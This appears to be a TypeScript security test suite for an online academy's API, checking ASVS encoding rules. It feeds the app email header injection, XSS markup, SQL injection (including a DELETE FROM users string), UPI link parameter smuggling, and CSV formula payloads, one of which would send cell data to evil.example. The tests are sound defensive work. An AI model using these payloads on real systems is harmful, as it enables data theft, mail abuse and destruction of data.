import { AcademyUnderAttack } from './academy-under-attack.js';
import { aScene, made, type Scene } from './scene.js';

const BCC = 'Mallory\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>pay here</b>';

describe('ASVS V1 Encoding and Sanitization', () => {
  let academy: AcademyUnderAttack;
  let scene: Scene;

  beforeAll(async () => {
    academy = await AcademyUnderAttack.shared({ worker: true });
    scene = await aScene(academy);
    await academy.drainQueues();
  });

  describe('V1.3: what people write gets into mails as text', () => {
    it.each<[string, () => Promise<unknown>]>([
      ['a name at sign-up', () => academy.learner({ fullName: BCC })],
      ['a ticket', () => scene.owner.as.post('/api/support', { type: 'other', message: BCC })],
      ['a reply', () => scene.owner.as.post(`/api/support/${scene.ticketId}/comments`, { message: BCC })],
      [
        "an administrator's reason",
        () =>
          academy.administrator.as.post(`/api/payments/manual-payments/${scene.paymentId}/reject`, {
            reason: BCC,
          }),
      ],
      [
        'a name at checkout',
        async () => {
          const learner = await academy.learner({ fullName: BCC });
          await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
            name: BCC,
            email: learner.email,
          });
          await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
            transaction_id: BCC.slice(0, 90),
          });
        },
      ],
    ])('%s with a header in it adds no header and no recipient', async (_what, write) => {
      academy.mails.mails.length = 0;
      await write();
      await academy.drainQueues();
      expect(academy.mails.mails.length).toBeGreaterThan(0);
      for (const mail of academy.mails.mails) {
        expect(mail.recipients).not.toContain('victim@evil.example');
        expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
        expect(mail.subject).not.toMatch(/[\r\n]/);
        expect(mail.html).not.toContain('<b>pay here</b>');
      }
    });

    it('markup of a name or a message is shown, not obeyed', async () => {
      academy.mails.mails.length = 0;
      const { as } = await academy.learner({ fullName: '<img/src=x/onerror=alert(1)> Mallory' });
      await as.post('/api/support', {
        type: 'other',
        message: '<a href="https://evil.example">Click here</a><script>alert(1)</script>',
      });
      await academy.drainQueues();
      for (const mail of academy.mails.mails)
        expect(mail.html).not.toMatch(/<img\/src|<script|href="https:\/\/evil/);
    });
  });

  describe('V1.2: a spreadsheet runs nothing of what learners wrote', () => {
    const FORMULAS = [
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd',
      '@SUM(1+1)',
      '=1+1;=1+1',
      '"=1+1"',
      "'=1+1",
      '\uFF1D1+1',
    ];

    beforeAll(async () => {
      for (const formula of FORMULAS) {
        const learner = await academy.learner({ fullName: formula });
        await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
          name: formula,
          email: learner.email,
        });
        await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
          transaction_id: formula.slice(0, 100),
        });
        made(
          await academy.administrator.as.post(`/api/admin/courses/${scene.otherCourse.id}/enrollments`, {
            email: learner.email,
            reason: formula,
          }),
        );
      }
    });

    it.each(['payments', 'enrolments', 'coupon-usages'])('of %s', async (file) => {
      const answer = await academy.administrator.as.get(`/api/admin/exports/${file}.csv`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
      const cells = [...answer.text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) =>
        cell!.replaceAll('""', '"'),
      );
      if (file === 'payments') for (const formula of FORMULAS) expect(cells.join()).toContain(formula);
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    });
  });

  describe('V1.2: searching is looking for that text', () => {
    it.each([
      '%',
      '_',
      '\\',
      "'",
      "' OR '1'='1",
      '%%%%%%%%',
      '.*',
      '$1',
      ':pattern',
      '\\%',
      "');DELETE FROM users;--",
    ])('%j matches literally', async (text) => {
      for (const list of [
        '/api/admin/learners',
        '/api/payments/manual-payments',
        '/api/support/admin/all',
        '/api/auth/v1/courses',
        '/api/admin/courses',
      ]) {
        const answer = await academy.administrator.as.get(`${list}?q=${encodeURIComponent(text)}`);
        expect(answer.status).toBe(200);
        for (const row of answer.body as object[])
          expect(JSON.stringify(row).toLowerCase()).toContain(
            JSON.stringify(text).slice(1, -1).toLowerCase(),
          );
      }
      expect((await academy.sql('SELECT FROM users')).length).toBeGreaterThan(2);
    });

    it('a catastrophic pattern takes no longer than another', async () => {
      const answer = await academy.administrator.as.get(
        `/api/admin/learners?q=${encodeURIComponent('a%'.repeat(100))}`,
      );
      expect([answer.status, answer.body]).toEqual([200, []]);
    });
  });

  it('V1.2: nothing that a learner writes gets into the link that opens a payment app, nor into the code drawn of it', async () => {
    const learner = await academy.learner({ fullName: 'x&pa=mallory@okbank&am=1.00' });
    const answer = await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
      name: 'x&pa=mallory@okbank&am=1.00',
      email: learner.email,
    });
    const { upi_link: link } = answer.body as { upi_link: string };
    const query = new URLSearchParams(link.split('?')[1]);
    expect([query.getAll('pa'), query.getAll('am')]).toEqual([['academy@okbank'], ['4999.00']]);
  });
});
